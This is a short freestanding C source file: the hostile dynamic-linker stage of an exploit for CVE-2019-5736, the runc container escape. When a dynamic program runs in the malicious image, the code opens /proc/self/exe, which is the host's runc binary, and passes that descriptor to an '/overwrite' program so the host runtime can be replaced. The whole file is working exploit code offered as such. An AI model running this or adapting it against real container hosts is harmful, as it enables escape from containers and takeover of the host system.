// flags: -nostdlib -ffreestanding -fno-stack-protector -fno-pie -no-pie
/* The dynamic linker of a hostile image. Whoever executes a dynamic program in that image executes this instead, as
 * that program: it opens its own executable and hands the descriptor to the program `overwrite` (CVE-2019-5736). */
static long call(long number, long one, long two, long three, long four)
{
    long result;
    register long r10 __asm__("r10") = four;
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(one), "S"(two), "d"(three), "r"(r10)
                     : "rcx", "r11", "memory");
    return result;
}

void _start(void)
{
    long fd = call(2, (long)"/proc/self/exe", 0, 0, 0); /* open */
    char number[3] = {'0' + fd / 10, '0' + fd % 10, 0};
    const char *argv[] = {"overwrite", number, 0}, *envp[] = {0};
    if (fd >= 0)
        call(59, (long)"/overwrite", (long)argv, (long)envp, 0); /* execve */
    call(60, 90, 0, 0, 0);                                       /* exit */
    __builtin_unreachable();
}
